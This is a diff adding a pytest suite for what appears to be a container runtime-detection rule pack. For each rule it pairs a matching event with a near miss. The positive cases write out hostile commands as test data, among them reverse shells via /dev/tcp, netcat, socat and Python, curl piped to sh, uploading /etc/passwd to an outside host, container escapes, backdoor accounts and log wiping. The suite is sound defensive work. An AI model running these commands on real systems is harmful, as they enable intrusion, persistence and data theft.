@@ -1,0 +1,380 @@
+"""Every shipped rule, exercised: one event it must match and one near miss it must not.
+
+The table below must cover every rule id in rules/: a new rule without cases fails here.
+"""
+
+from __future__ import annotations
+
+import shlex
+from collections import Counter
+from pathlib import Path
+
+import pytest
+
+from roxd.model import (
+    ActionKind,
+    Ancestor,
+    ConnectEvent,
+    Container,
+    EnrichedEvent,
+    ExecEvent,
+    Phase,
+    Process,
+)
+from roxd.rules import KillPath, RuleSet, load_rule_set
+
+pytestmark = pytest.mark.unit
+
+PACK = Path(__file__).resolve().parents[2] / "rules"
+HOST = "host"
+
+
+def container(image: str = "acme/app:1.0") -> Container:
+    return Container(id="c" * 64, runtime="docker", name="app-1", image=image)
+
+
+def run(
+    command: str,
+    parent: str | None = "/bin/bash",
+    image: str = "acme/app:1.0",
+    exe: str | None = None,
+    ancestors: tuple[str, ...] = (),
+    parent_cmd: str = "",
+) -> EnrichedEvent:
+    """An exec of `command` (shell-split; argv[0] resolved under /usr/bin unless absolute)."""
+    args = tuple(shlex.split(command))
+    exe = exe or (args[0] if args[0].startswith("/") else f"/usr/bin/{args[0]}")
+    chain = []
+    if parent:
+        chain.append(Ancestor(100, parent, tuple(shlex.split(parent_cmd)) or (parent,)))
+    chain.extend(Ancestor(101 + i, a) for i, a in enumerate(ancestors))
+    process = Process(
+        pid=200, ppid=100, uid=0, exe=exe, comm=exe.rpartition("/")[2][:15], args=args,
+        cgroup_id=7, ancestors=tuple(chain),
+    )
+    event = ExecEvent(1, 200, 100, 0, 0, 7, process.comm, exe, args, False)
+    return EnrichedEvent(event, None if image == HOST else container(image), process)
+
+
+def connect(daddr: str, dport: int, image: str = "acme/app:1.0", exe: str = "/usr/bin/curl",
+            ancestors: tuple[str, ...] = ()) -> EnrichedEvent:
+    family = "ipv6" if ":" in daddr else "ipv4"
+    process = Process(
+        pid=300, ppid=1, uid=1000, exe=exe, comm=exe.rpartition("/")[2], args=(exe,),
+        cgroup_id=7, ancestors=tuple(Ancestor(301 + i, a) for i, a in enumerate(ancestors)),
+    )
+    event = ConnectEvent(1, 300, 300, 1000, 7, process.comm, family, daddr, dport, 0)
+    return EnrichedEvent(event, None if image == HOST else container(image), process)
+
+
+# rule id -> (an event the rule must match, a near miss it must not match)
+CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
+    # ------------------------------------------------------------------ foothold
+    "foothold.shell-in-container": (
+        run("/bin/sh -c id", parent="/usr/bin/python3"),
+        run("/bin/sh -c id", parent="/usr/bin/containerd-shim-runc-v2"),
+    ),
+    "foothold.shell-from-web-server": (
+        run("/bin/sh -c 'id; uname -a'", parent="/usr/sbin/nginx"),
+        run("/bin/sh -c '/usr/sbin/sendmail -t -i'", parent="/usr/sbin/php-fpm8.2"),
+    ),
+    "foothold.netcat-exec": (
+        run("nc -lvnp 4444 -e /bin/sh"),
+        run("nc -zv db 5432"),
+    ),
+    "foothold.socat-exec": (
+        run("socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr"),
+        run("socat TCP-LISTEN:8080,fork TCP:backend:80"),
+    ),
+    "foothold.reverse-shell-dev-tcp": (
+        run("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
+        run("bash -c 'ls /dev/tty'"),
+    ),
+    "foothold.reverse-shell-pipe": (
+        run("sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f'"),
+        run("sh -c 'cat /etc/hosts | grep localhost'"),
+    ),
+    "foothold.reverse-shell-interpreter": (
+        run(
+            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\","
+            "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"
+        ),
+        run("python3 -c 'import socket; print(socket.gethostname())'"),
+    ),
+    "foothold.exec-from-tmp": (
+        run("/tmp/x86_64 --daemon", exe="/tmp/x86_64"),
+        run("/tmp/go-build123/b001/exe/main", exe="/tmp/go-build123/b001/exe/main"),
+    ),
+    "foothold.exec-from-dev-shm": (
+        run("/dev/shm/kworker", exe="/dev/shm/kworker"),
+        run("/usr/bin/shmctl"),
+    ),
+    "foothold.exec-from-hidden-directory": (
+        run("/var/tmp/.X11/.x/kthreadd", exe="/var/tmp/.X11/.x/kthreadd"),
+        run("/root/.local/bin/poetry install", exe="/root/.local/bin/poetry"),
+    ),
+    "foothold.download-piped-to-shell": (
+        run("sh -c 'curl -fsSL http://198.51.100.7/x.sh | sh'"),
+        run("sh -c 'curl -fsSL http://198.51.100.7/x.json | jq .'"),
+    ),
+    "foothold.download-to-temp": (
+        run("wget -O /tmp/kdevtmpfsi http://198.51.100.7/k"),
+        run("wget -O /app/data.json http://198.51.100.7/d"),
+    ),
+    "foothold.package-manager-in-container": (
+        run("apt-get install -y nmap"),
+        run("apt-get install -y nmap", image=HOST),
+    ),
+    "foothold.compiler-in-container": (
+        run("gcc -o /tmp/x exploit.c"),
+        run("gcc -o /tmp/x exploit.c", image=HOST),
+    ),
+    # ------------------------------------------------------------------ privilege escalation
+    "privilege_escalation.setuid-chmod": (
+        run("chmod u+s /tmp/bash"),
+        run("chmod 0755 /tmp/bash"),
+    ),
+    "privilege_escalation.namespace-tools-in-container": (
+        run("nsenter -t 1 -m -u -n -i sh"),
+        run("nsenter -t 1 -m -u -n -i sh", image=HOST),
+    ),
+    "privilege_escalation.mount-in-container": (
+        run("mount /dev/sda1 /mnt"),
+        run("mount"),
+    ),
+    "privilege_escalation.read-shadow": (
+        run("cat /host/etc/shadow"),
+        run("cat /etc/passwd"),
+    ),
+    "privilege_escalation.sudo-su-in-container": (
+        run("sudo -i"),
+        run("sudo -i", image=HOST),
+    ),
+    "privilege_escalation.container-runtime-client": (
+        run("docker run -v /:/host --privileged alpine"),
+        run("docker run -v /:/host --privileged alpine", image=HOST),
+    ),
+    "privilege_escalation.runtime-socket-raw-client": (
+        run("curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
+        run("curl --unix-socket /run/app.sock http://localhost/health"),
+    ),
+    "privilege_escalation.setcap-in-container": (
+        run("setcap cap_setuid+ep /usr/bin/python3"),
+        run("getcap /usr/bin/python3"),
+    ),
+    "privilege_escalation.kernel-module-in-container": (
+        run("insmod /tmp/rootkit.ko", exe="/sbin/insmod"),
+        run("lsmod"),
+    ),
+    "privilege_escalation.chroot-in-container": (
+        run("chroot /host /bin/bash"),
+        run("chroot /host /bin/bash", image=HOST),
+    ),
+    "privilege_escalation.kernel-hook-write": (
+        run("tee /sys/fs/cgroup/rdma/x/release_agent"),
+        run("tee /tmp/notes.txt"),
+    ),
+    "privilege_escalation.ptrace-attach-in-container": (
+        run("gdb -p 1"),
+        run("gdb ./app"),
+    ),
+    "privilege_escalation.docker-api-connect": (
+        connect("172.17.0.1", 2375),
+        connect("172.17.0.1", 2377),
+    ),
+    "privilege_escalation.cloud-metadata-connect": (
+        connect("::ffff:169.254.169.254", 80),
+        connect("169.254.169.253", 80),
+    ),
+    # ------------------------------------------------------------------ persistence
+    "persistence.scheduled-task": (
+        run("crontab /tmp/jobs"),
+        run("crontab -l"),
+    ),
+    "persistence.account-created": (
+        run("useradd -o -u 0 backdoor"),
+        run("useradd --system app", parent="/bin/sh", ancestors=("/usr/bin/dpkg",)),
+    ),
+    "persistence.account-modified": (
+        run("usermod -aG sudo www-data"),
+        run("passwd -S root"),
+    ),
+    "persistence.service-enabled": (
+        run("systemctl enable evil.service", image=HOST),
+        run("systemctl status sshd", image=HOST),
+    ),
+    "persistence.cron-file-write": (
+        run("tee -a /etc/crontab"),
+        run("tee -a /etc/hosts"),
+    ),
+    "persistence.authorized-keys-write": (
+        run("cp /tmp/k.pub /root/.ssh/authorized_keys"),
+        run("cp /tmp/k.pub /root/.ssh/known_hosts"),
+    ),
+    "persistence.sshd-config-write": (
+        run("sed -i s/PermitRootLogin.no/PermitRootLogin.yes/ /etc/ssh/sshd_config"),
+        run("sed -n /PermitRootLogin/p /etc/ssh/sshd_config"),
+    ),
+    "persistence.shell-profile-write": (
+        run("tee -a /root/.bashrc"),
+        run("cat /root/.bashrc"),
+    ),
+    "persistence.service-file-write": (
+        run("cp /tmp/evil.service /etc/systemd/system/evil.service", image=HOST),
+        run("cp /etc/systemd/system.conf /tmp/system.conf", image=HOST),
+    ),
+    "persistence.ld-preload-write": (
+        run("tee /etc/ld.so.preload"),
+        run("cat /etc/ld.so.preload"),
+    ),
+    "persistence.ssh-server-in-container": (
+        run("/usr/sbin/sshd -D"),
+        run("/usr/sbin/sshd -D", image="gitea/gitea:1.21"),
+    ),
+    # ------------------------------------------------------------------ lateral movement
+    "lateral_movement.network-scanner": (
+        run("nmap -sS 10.0.0.0/24"),
+        run("nslookup db"),
+    ),
+    "lateral_movement.remote-copy-from-container": (
+        run("rsync -a /data/ backup@10.0.0.9:/srv/"),
+        run("rsync -a /data/ /backup/"),
+    ),
+    "lateral_movement.ssh-client-in-container": (
+        run("ssh root@10.0.0.5"),
+        run("ssh git@github.com git-upload-pack 'x.git'", parent="/usr/bin/git"),
+    ),
+    "lateral_movement.ssh-connect-from-container": (
+        connect("10.0.0.5", 22, exe="/usr/bin/python3"),
+        connect("10.0.0.5", 22, exe="/usr/bin/ssh", ancestors=("/usr/bin/git",)),
+    ),
+    "lateral_movement.kubelet-connect": (
+        connect("10.0.0.2", 10250),
+        connect("10.0.0.2", 10250, image="registry.k8s.io/metrics-server/metrics-server:v0.7.0"),
+    ),
+    "lateral_movement.etcd-connect": (
+        connect("10.0.0.2", 2379),
+        connect("10.0.0.2", 2379, image="registry.k8s.io/kube-apiserver:v1.29.0"),
+    ),
+    "lateral_movement.kubernetes-client-in-container": (
+        run("kubectl get secrets -A"),
+        run("kubectl get secrets -A", image=HOST),
+    ),
+    "lateral_movement.tunneling-tool": (
+        run("/opt/chisel client 198.51.100.7:8000 R:socks", exe="/opt/chisel"),
+        run("/opt/chisel-docs", exe="/opt/chisel-docs"),
+    ),
+    "lateral_movement.ssh-port-forward-in-container": (
+        run("ssh -fNR 9000:localhost:22 tunnel@198.51.100.7"),
+        run("ssh -oLogLevel=ERROR deploy@10.0.0.5 uptime"),
+    ),
+    # ------------------------------------------------------------------ objectives
+    "objectives.crypto-miner-binary": (
+        run("/tmp/xmrig -o pool:3333", exe="/tmp/xmrig"),
+        run("/usr/bin/xmrig-docs", exe="/usr/bin/xmrig-docs"),
+    ),
+    "objectives.crypto-miner-arguments": (
+        run("/usr/bin/kworker -o stratum+tcp://pool.example:3333 -u wallet"),
+        run("/usr/bin/curl -o out.html https://example.org/stratum"),
+    ),
+    "objectives.mining-pool-port-connect": (
+        connect("203.0.113.9", 3333),
+        connect("10.0.0.3", 4444, image="selenium/hub:4.18"),
+    ),
+    "objectives.log-wipe": (
+        run("shred -u /var/log/auth.log"),
+        run("rm /tmp/app.log"),
+    ),
+    "objectives.history-wipe": (
+        run("ln -sf /dev/null /root/.bash_history"),
+        run("ln -sf /usr/bin/python3 /usr/local/bin/python"),
+    ),
+    "objectives.firewall-flush-in-container": (
+        run("iptables -F"),
+        run("iptables -L -n"),
+    ),
+    "objectives.disable-security-tooling": (
+        run("systemctl stop auditd", image=HOST),
+        run("systemctl stop nginx", image=HOST),
+    ),
+    "objectives.packet-sniffer-in-container": (
+        run("tcpdump -i any -w /tmp/c.pcap"),
+        run("tcpdump -i any -w /tmp/c.pcap", image=HOST),
+    ),
+    "objectives.file-upload-from-container": (
+        run("curl -F file=@/etc/passwd http://198.51.100.7/u"),
+        run("curl -fsS http://api/health"),
+    ),
+}
+
+
+@pytest.fixture(scope="module")
+def pack() -> RuleSet:
+    return load_rule_set([PACK])
+
+
+def matched_ids(rule_set: RuleSet, event: EnrichedEvent) -> set[str]:
+    return {m.rule.id for m in rule_set.match(event)}
+
+
+def test_table_covers_every_shipped_rule(pack: RuleSet) -> None:
+    ids = {rule.id for rule in pack.rules}
+    assert ids - CASES.keys() == set(), "rules without a positive/negative case in CASES"
+    assert CASES.keys() - ids == set(), "cases for rules that are not in the pack"
+
+
+@pytest.mark.parametrize("rule_id", sorted(CASES))
+def test_rule_matches_its_positive_case(pack: RuleSet, rule_id: str) -> None:
+    positive, _ = CASES[rule_id]
+    assert rule_id in matched_ids(pack, positive)
+
+
+@pytest.mark.parametrize("rule_id", sorted(CASES))
+def test_rule_ignores_its_near_miss(pack: RuleSet, rule_id: str) -> None:
+    _, negative = CASES[rule_id]
+    assert rule_id not in matched_ids(pack, negative)
+
+
+def test_pack_has_forty_rules_over_all_five_phases(pack: RuleSet) -> None:
+    assert len(pack.rules) >= 40
+    phases = Counter(rule.phase for rule in pack.rules)
+    assert set(phases) == set(Phase)
+
+
+@pytest.mark.parametrize("rule_id", sorted(CASES))
+def test_rule_is_documented(pack: RuleSet, rule_id: str) -> None:
+    rule = pack.get(rule_id)
+    assert rule is not None
+    assert rule.mitre and all(t.startswith("T") for t in rule.mitre)
+    assert rule.id.split(".")[0] == rule.phase.value  # ids are namespaced by their phase
+    assert len(rule.description) > 120 and "benign" in rule.description.lower()
+    assert rule.enabled
+
+
+def test_only_the_miner_binary_rule_is_killed_in_the_kernel(pack: RuleSet) -> None:
+    specs = pack.exec_kill_specs()
+    assert [s.rule_id for s in specs] == ["objectives.crypto-miner-binary"]
+    spec = specs[0]
+    assert "xmrig" in spec.exe_basenames and not spec.exe_paths
+    assert spec.scope.matches_container(None) and spec.scope.matches_container(container())
+    assert spec.scope.matches_any_container()
+    notes = pack.effective_action_notes()
+    assert notes["objectives.crypto-miner-binary"] == "alert; kill: in-kernel"
+    assert notes["objectives.crypto-miner-arguments"] == "alert; kill: userspace"
+    args_rule = pack.get("objectives.crypto-miner-arguments")
+    assert args_rule is not None and args_rule.kill_path is KillPath.USERSPACE
+    assert ActionKind.KILL in args_rule.actions
+
+
+def test_busybox_shell_counts_as_a_shell(pack: RuleSet) -> None:
+    event = run("busybox sh -c id", parent="/usr/bin/python3", exe="/bin/busybox")
+    assert "foothold.shell-in-container" in matched_ids(pack, event)
+    assert "foothold.shell-in-container" not in matched_ids(
+        pack, run("busybox ls /", parent="/usr/bin/python3", exe="/bin/busybox")
+    )
+
+
+def test_benign_everyday_commands_raise_nothing(pack: RuleSet) -> None:
+    for command in ("ls -la /app", "python3 app.py", "cat /etc/os-release", "ps aux"):
+        assert matched_ids(pack, run(command, parent="/bin/sh")) == set(), command
+    assert matched_ids(pack, connect("10.0.0.3", 5432)) == set()
